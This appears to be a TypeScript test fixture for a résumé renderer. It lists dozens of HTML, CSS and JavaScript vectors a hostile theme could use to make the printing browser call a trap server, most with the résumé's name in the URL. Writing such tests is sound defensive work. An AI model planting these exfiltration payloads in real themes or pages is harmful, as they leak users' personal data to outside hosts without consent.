// Every way a theme's page could make the printing browser reach out, each to its own path on the trap (so a hit
// names its vector), with the résumé's name in the address as a theme would send it.
import type { ThemeInjection } from './hostile-harness.js';

/** The vectors, by name: what a theme's head, body or stylesheet would carry. */
export function networkVectors(base: string): Record<string, ThemeInjection> {
  const at = (path: string) => `${base}/${path}?n={{name}}`;
  const ws = base.replace('http:', 'ws:');
  const host = base.replace('http://', '');
  return {
    prefetch: { head: `<link rel="prefetch" href="${at('prefetch')}">` },
    'preload style': { head: `<link rel="preload" as="style" href="${at('preload-style')}">` },
    'preload font': { head: `<link rel="preload" as="font" crossorigin href="${at('preload-font')}">` },
    'preload image': { head: `<link rel="preload" as="image" href="${at('preload-image')}">` },
    'preload fetch': { head: `<link rel="preload" as="fetch" crossorigin href="${at('preload-fetch')}">` },
    modulepreload: { head: `<link rel="modulepreload" href="${at('modulepreload')}">` },
    prerender: { head: `<link rel="prerender" href="${at('prerender')}">` },
    preconnect: { head: `<link rel="preconnect" href="${base}/">` },
    'dns-prefetch': { head: `<link rel="dns-prefetch" href="${base}/">` },
    'speculation rules: prefetch': {
      head: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at('spec-prefetch')}"]}]}</script>`,
    },
    'speculation rules: prerender': {
      head: `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${at('spec-prerender')}"]}]}</script>`,
    },
    stylesheet: { head: `<link rel="stylesheet" href="${at('stylesheet')}">` },
    'stylesheet as data: importing': {
      head: `<link rel="stylesheet" href="data:text/css,@import url(${base}/data-import);">`,
    },
    icon: { head: `<link rel="icon" href="${at('icon')}">` },
    manifest: { head: `<link rel="manifest" href="${at('manifest')}">` },
    img: { body: `<img src="${at('img')}">` },
    'img srcset': { body: `<img srcset="${at('srcset')} 1x" src="data:,">` },
    picture: { body: `<picture><source srcset="${at('picture')}"><img src="data:," alt=""></picture>` },
    'input image': { body: `<input type="image" src="${at('input')}">` },
    'video poster and source': {
      body: `<video poster="${at('poster')}" src="${at('video')}" preload="auto"></video>`,
    },
    audio: { body: `<audio src="${at('audio')}" preload="auto" autoplay></audio>` },
    track: { body: `<video><track src="${at('track')}" default></video>` },
    iframe: { body: `<iframe src="${at('iframe')}"></iframe>` },
    'iframe srcdoc': { body: `<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>` },
    'iframe data:': { body: `<iframe src="data:text/html,<img src='${base}/iframe-data'>"></iframe>` },
    object: { body: `<object data="${at('object')}"></object>` },
    embed: { body: `<embed src="${at('embed')}">` },
    'svg image': { body: `<svg><image href="${at('svg-image')}" width="10" height="10"/></svg>` },
    'svg use': { body: `<svg><use href="${base}/svg-use#x"/></svg>` },
    'css url()': { css: `body { background: url(${base}/css-url) }` },
    'css @import': { css: `@import url(${base}/css-import);` },
    '@font-face': {
      css: `@font-face { font-family: X; src: url(${base}/font-face); } body { font-family: X, serif }`,
    },
    'css image-set()': { css: `body { background-image: image-set("${base}/image-set" 1x) }` },
    'css list, cursor, mask, border images': {
      css: `li { list-style-image: url(${base}/list-style) } body { cursor: url(${base}/cursor), auto; mask-image: url(${base}/mask); border-image: url(${base}/border) 30 }`,
    },
    'script src': { body: `<script src="${at('script-src')}"></script>` },
    'script: fetch, image, beacon': {
      body: `<script>fetch("${at('fetch')}"); new Image().src = "${base}/js-image"; navigator.sendBeacon("${base}/beacon")</script>`,
    },
    'script: XMLHttpRequest': {
      body: `<script>var x = new XMLHttpRequest(); x.open("GET", "${base}/xhr", false); x.send()</script>`,
    },
    'script: WebSocket': { body: `<script>new WebSocket("${ws}/ws")</script>` },
    'script: EventSource': { body: `<script>new EventSource("${base}/sse")</script>` },
    'script: Worker': { body: `<script>new Worker("${base}/worker.js")</script>` },
    'script: service worker': { body: `<script>navigator.serviceWorker.register("${base}/sw.js")</script>` },
    'script: import()': { body: `<script>import("${base}/import.js")</script>` },
    'script: WebRTC': {
      body: `<script>var pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] }); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o))</script>`,
    },
    'form submitted by script': {
      body: `<form action="${base}/form" method="post"><input name="a" value="{{name}}"></form><script>document.forms[0].submit()</script>`,
    },
    'a ping': { body: `<a href="#x" ping="${base}/ping" id="x">x</a>` },
  };
}

/** Vectors that replace the page or its base: each in a theme of its own. */
export function navigationVectors(base: string): Record<string, ThemeInjection> {
  return {
    'meta refresh': { head: `<meta http-equiv="refresh" content="0;url=${base}/refresh?n={{name}}">` },
    'base href': { head: `<base href="${base}/base/">`, body: '<img src="relative.png">' },
  };
}

/** The paths on the trap each vector's addresses name (none for preconnect, dns-prefetch, WebRTC). */
export function pathsOf(vectors: Record<string, ThemeInjection>, base: string): Record<string, string[]> {
  const host = base.replace(/^http:\/\//, '').replaceAll('.', '\\.');
  return Object.fromEntries(
    Object.entries(vectors).map(([name, v]) => [
      name,
      [...`${v.head ?? ''}${v.body ?? ''}${v.css ?? ''}`.matchAll(new RegExp(`${host}/([\\w.-]+)`, 'g'))].map(
        (m) => `/${m[1]}`,
      ),
    ]),
  );
}
